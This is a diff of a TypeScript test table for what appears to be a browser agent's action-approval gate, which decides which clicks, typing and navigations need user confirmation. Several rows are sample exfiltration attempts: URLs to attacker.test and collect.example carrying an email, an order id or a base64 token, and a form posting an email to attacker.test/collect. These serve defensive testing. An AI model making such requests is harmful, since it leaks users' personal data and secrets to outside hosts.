@@ -1,21 +1,16 @@
-import { approvePlan } from './task-state';
-import { decideRows, el, input, OTHER, PAGE, SHOP, settings, task, type Row } from './test-helpers';
-
-const _plan = (origins: string[]) =>
-  approvePlan(task(), { summary: 'buy shoes', steps: ['search', 'add to cart'], origins });
-const _askFirst = settings({ mode: 'ask-before-acting' });
+import { decideRows, el, input, OTHER, PAGE, SHOP, type Row, clickOn, goTo, typeInto } from './test-helpers';
 
 const rows: Row[] = [
   // The ordinary path on an allowed site.
   { name: 'snapshot on an allowed site', input: input('snapshot', 'read'), verdict: 'allow' },
   {
     name: 'click an ordinary button',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('Add to cart') }),
+    input: clickOn(el('Add to cart')),
     verdict: 'allow',
   },
   {
     name: 'type a search',
-    input: input('type', 'act', { pageUrl: PAGE, element: el('Search', { role: 'searchbox' }), value: 'blue shoes' }),
+    input: typeInto(el('Search', { role: 'searchbox' }), 'blue shoes'),
     verdict: 'allow',
   },
   {
@@ -28,26 +23,22 @@ const rows: Row[] = [
   },
   {
     name: '"My orders" is not ordering',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('我的订单', { role: 'link' }) }),
+    input: clickOn(el('我的订单', { role: 'link' })),
     verdict: 'allow',
   },
   {
     name: '"Payment methods" is not paying',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('Payment methods', { role: 'link' }) }),
+    input: clickOn(el('Payment methods', { role: 'link' })),
     verdict: 'allow',
   },
   {
     name: 'typing into a field named Delete is not deleting',
-    input: input('type', 'act', {
-      pageUrl: PAGE,
-      element: el('Delete reason', { role: 'textbox' }),
-      value: 'duplicate',
-    }),
+    input: typeInto(el('Delete reason', { role: 'textbox' }), 'duplicate'),
     verdict: 'allow',
   },
   {
     name: 'navigate within a visited site, even with page data',
-    input: input('navigate', 'act', { pageUrl: PAGE, navigation: { url: `${SHOP}/orders/778812`, via: 'navigate' } }),
+    input: goTo(`${SHOP}/orders/778812`),
     verdict: 'allow',
   },
   {
@@ -64,40 +55,37 @@ const rows: Row[] = [
   // High-risk: always asks.
   {
     name: 'Place order',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('Place order') }),
+    input: clickOn(el('Place order')),
     verdict: 'ask',
     codes: ['risky-name'],
     card: 'high-risk',
   },
   {
     name: '立即购买',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('立即购买') }),
+    input: clickOn(el('立即购买')),
     verdict: 'ask',
     codes: ['risky-name'],
   },
   {
     name: '删除',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('删除') }),
+    input: clickOn(el('删除')),
     verdict: 'ask',
     codes: ['risky-name'],
   },
   {
     name: 'Send',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('Send') }),
+    input: clickOn(el('Send')),
     verdict: 'ask',
     codes: ['risky-name'],
   },
   {
     name: 'a disclosure named like an action only shows content',
-    input: input('click', 'act', {
-      pageUrl: PAGE,
-      element: { ...el('GET /store/order/{orderId} Find purchase order by ID'), disclosure: true },
-    }),
+    input: clickOn({ ...el('GET /store/order/{orderId} Find purchase order by ID'), disclosure: true }),
     verdict: 'allow',
   },
   {
     name: '转账',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('确认转账') }),
+    input: clickOn(el('确认转账')),
     verdict: 'ask',
     codes: ['risky-name'],
   },
@@ -120,62 +108,43 @@ const rows: Row[] = [
   },
   {
     name: 'type into a password field',
-    input: input('type', 'act', {
-      pageUrl: PAGE,
-      element: el('Password', { role: 'textbox', isPassword: true }),
-      value: 'hunter2',
-    }),
+    input: typeInto(el('Password', { role: 'textbox', isPassword: true }), 'hunter2'),
     verdict: 'ask',
     codes: ['password-field'],
   },
   {
     name: 'submit a login form',
-    input: input('click', 'act', {
-      pageUrl: PAGE,
-      element: el('Continue', { submitsForm: true, form: { hasPassword: true, hasPayment: false } }),
-    }),
+    input: clickOn(el('Continue', { submitsForm: true, form: { hasPassword: true, hasPayment: false } })),
     verdict: 'ask',
     codes: ['sensitive-form-submit'],
   },
   {
     name: 'submit a payment form',
-    input: input('click', 'act', {
-      pageUrl: PAGE,
-      element: el('Continue', { submitsForm: true, form: { hasPassword: false, hasPayment: true } }),
-    }),
+    input: clickOn(el('Continue', { submitsForm: true, form: { hasPassword: false, hasPayment: true } })),
     verdict: 'ask',
     codes: ['sensitive-form-submit'],
   },
   {
     name: 'a download link',
-    input: input('click', 'act', { pageUrl: PAGE, element: el('Invoice.pdf', { role: 'link', download: true }) }),
+    input: clickOn(el('Invoice.pdf', { role: 'link', download: true })),
     verdict: 'ask',
     codes: ['download'],
   },
   {
     name: 'exfiltration by query',
-    input: input('navigate', 'act', {
-      pageUrl: PAGE,
-      navigation: { url: 'https://attacker.test/c?d=jane.doe%40mail.example', via: 'navigate' },
-    }),
+    input: goTo('https://attacker.test/c?d=jane.doe%40mail.example'),
     verdict: 'ask',
     codes: ['page-suggested-navigation', 'carries-data', 'new-site'],
   },
   {
     name: 'exfiltration by path to a site the page never named',
-    input: input('navigate', 'act', {
-      pageUrl: PAGE,
-      navigation: { url: 'https://collect.example/778812/x', via: 'navigate' },
-    }),
+    input: goTo('https://collect.example/778812/x'),
     verdict: 'ask',
     codes: ['carries-data', 'new-site'],
   },
   {
     name: 'exfiltration in base64',
-    input: input('navigate', 'act', {
-      pageUrl: PAGE,
-      navigation: { url: `https://collect.example/?p=${btoa('token QzX9-Lm2Kp7')}`, via: 'navigate' },
-    }),
+    input: goTo(`https://collect.example/?p=${btoa('token QzX9-Lm2Kp7')}`),
     verdict: 'ask',
     codes: ['carries-data', 'new-site'],
   },
@@ -191,24 +160,20 @@ const rows: Row[] = [
   },
   {
     name: 'a site named only by the page',
-    input: input('navigate', 'act', {
-      pageUrl: PAGE,
-      navigation: { url: 'https://attacker.test/help', via: 'navigate' },
-    }),
+    input: goTo('https://attacker.test/help'),
     verdict: 'ask',
     codes: ['page-suggested-navigation', 'new-site'],
     card: 'high-risk',
   },
   {
     name: 'page data typed into a form posting elsewhere',
-    input: input('type', 'act', {
-      pageUrl: PAGE,
-      element: el('Email', {
+    input: typeInto(
+      el('Email', {
         role: 'textbox',
         form: { hasPassword: false, hasPayment: false, action: 'https://attacker.test/collect' },
       }),
-      value: 'jane.doe@mail.example',
-    }),
+      'jane.doe@mail.example',
+    ),
     verdict: 'ask',
     codes: ['carries-data'],
   },
